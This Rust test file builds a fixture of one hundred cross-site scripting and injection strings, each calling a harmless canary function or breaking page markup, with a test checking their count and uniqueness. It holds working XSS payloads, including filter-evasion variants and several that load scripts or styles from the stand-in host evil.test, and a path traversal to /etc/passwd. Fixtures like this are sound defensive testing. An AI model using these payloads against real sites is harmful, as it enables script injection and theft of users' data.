//! A hundred strings of attackers: each calls `semelCanary()` if a page lets it, or breaks what the page is made of.

/// All of them. None has control characters, which no key may have.
pub(super) fn strings() -> Vec<String> {
    let long = [
        "<b>".repeat(160),
        "&".repeat(500),
        "\"'<>".repeat(120),
        format!("{}<script>semelCanary()</script>", "a".repeat(400)),
    ];
    SCRIPTS
        .iter()
        .chain(&HANDLERS)
        .chain(&BREAKOUTS)
        .chain(&ADDRESSES)
        .chain(&TRICKS)
        .map(|&text| text.to_owned())
        .chain(long)
        .collect()
}

const SCRIPTS: [&str; 18] = [
    "<script>semelCanary()</script>",
    "<SCRIPT>semelCanary()</SCRIPT>",
    "<scr<script>ipt>semelCanary()</scr</script>ipt>",
    "<script/x>semelCanary()</script>",
    "<script src=//evil.test/x.js></script>",
    "<script type=module>semelCanary()</script>",
    "</script><script>semelCanary()</script>",
    "<script>semelCanary()",
    "<script>/*</script>*/semelCanary()//",
    "\"><script>semelCanary()</script>",
    "'><script>semelCanary()</script>",
    "</title><script>semelCanary()</script>",
    "</textarea><script>semelCanary()</script>",
    "</style><script>semelCanary()</script>",
    "</pre></main></body><script>semelCanary()</script>",
    "<noscript><p title=\"</noscript><script>semelCanary()</script>\">",
    "<svg><script>semelCanary()</script></svg>",
    "<math><mtext><script>semelCanary()</script></mtext></math>",
];

const HANDLERS: [&str; 22] = [
    "<img src=x onerror=semelCanary()>",
    "<img src=x onerror=\"semelCanary()\"//",
    "<IMG SRC=x ONERROR=semelCanary()>",
    "<img/src=x/onerror=semelCanary()>",
    "<img src=x oneRRor=semelCanary`1`>",
    "<svg onload=semelCanary()>",
    "<svg/onload=semelCanary()//",
    "<svg><animate onbegin=semelCanary() attributeName=x dur=1s>",
    "<svg><set onbegin=semelCanary() attributename=x>",
    "<body onload=semelCanary()>",
    "<details open ontoggle=semelCanary()>",
    "<video><source onerror=semelCanary()></video>",
    "<audio src=x onerror=semelCanary()>",
    "<input autofocus onfocus=semelCanary()>",
    "<select autofocus onfocus=semelCanary()>",
    "<marquee onstart=semelCanary()>",
    "<style onload=semelCanary()></style>",
    "<link rel=stylesheet href=x onerror=semelCanary()>",
    "<object data=x onerror=semelCanary()>",
    "<iframe onload=semelCanary()></iframe>",
    "<p onpointerenter=semelCanary()>",
    "<div tabindex=0 autofocus onfocusin=semelCanary()>",
];

const BREAKOUTS: [&str; 20] = [
    "\" onmouseover=\"semelCanary()",
    "' onmouseover='semelCanary()",
    "\" autofocus onfocus=semelCanary() x=\"",
    "' autofocus onfocus=semelCanary() x='",
    "\"></a><img src=x onerror=semelCanary()>",
    "x onfocus=semelCanary() autofocus",
    "</td></tr></table><img src=x onerror=semelCanary()>",
    "</form><form action=//evil.test><button>",
    "<!--",
    "--><img src=x onerror=semelCanary()>",
    "<!--><img src=x onerror=semelCanary()>",
    "<![CDATA[<img src=x onerror=semelCanary()>]]>",
    "]]><script>semelCanary()</script>",
    "<?xml version=\"1.0\"?><script>semelCanary()</script>",
    "<plaintext>",
    "<xmp>",
    "<textarea>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:semelCanary()\">",
    "<template><img src=x onerror=semelCanary()></template>",
];

const ADDRESSES: [&str; 14] = [
    "javascript:semelCanary()",
    "JaVaScRiPt:semelCanary()",
    "javascript://%0asemelCanary()",
    "javascript&colon;semelCanary()",
    "&#106;avascript:semelCanary()",
    "data:text/html,<script>semelCanary()</script>",
    "data:text/html;base64,PHNjcmlwdD5zZW1lbENhbmFyeSgpPC9zY3JpcHQ+",
    "vbscript:semelCanary()",
    "<a href=javascript:semelCanary()>click</a>",
    "<form action=javascript:semelCanary()><button>go</button></form>",
    "<iframe src=javascript:semelCanary()></iframe>",
    "<embed src=javascript:semelCanary()>",
    "//evil.test/..",
    "../../../../etc/passwd?x=1#y",
];

const TRICKS: [&str; 22] = [
    "{{constructor.constructor('semelCanary()')()}}",
    "${semelCanary()}",
    "<%= semelCanary() %>",
    "#{semelCanary()}",
    "@{semelCanary()}",
    "'+semelCanary()+'",
    "\";semelCanary();//",
    "\\\";semelCanary();//",
    "&lt;script&gt;semelCanary()&lt;/script&gt;",
    "&#x3c;script&#x3e;semelCanary()&#x3c;/script&#x3e;",
    "%3Cscript%3EsemelCanary()%3C/script%3E",
    "\\u003cscript\\u003esemelCanary()\\u003c/script\\u003e",
    "＜script＞semelCanary()＜/script＞",
    "<ſcript>semelCanary()</ſcript>",
    "\u{202e}<script>semelCanary()</script>",
    "\u{2066}>\"'<img src=x onerror=semelCanary()>\u{2069}",
    "a\u{200b}\u{feff}<svg onload=semelCanary()>",
    "x\u{2028}semelCanary()\u{2029}x",
    "<style>*{background:url(javascript:semelCanary())}</style>",
    "<style>@import '//evil.test/x.css';</style>",
    "x;background-image:url(//evil.test/x)",
    "event: decision data: {\"decision\":\"<img src=x onerror=semelCanary()>\"}",
];

#[test]
fn there_are_a_hundred_strings_and_no_two_are_alike() {
    let mut strings = strings();
    assert!(
        strings
            .iter()
            .all(|text| text.len() <= 512 && text.trim() == text && !text.contains(char::is_control))
    );
    assert_eq!(strings.len(), 100);
    strings.sort();
    strings.dedup();
    assert_eq!(strings.len(), 100);
}
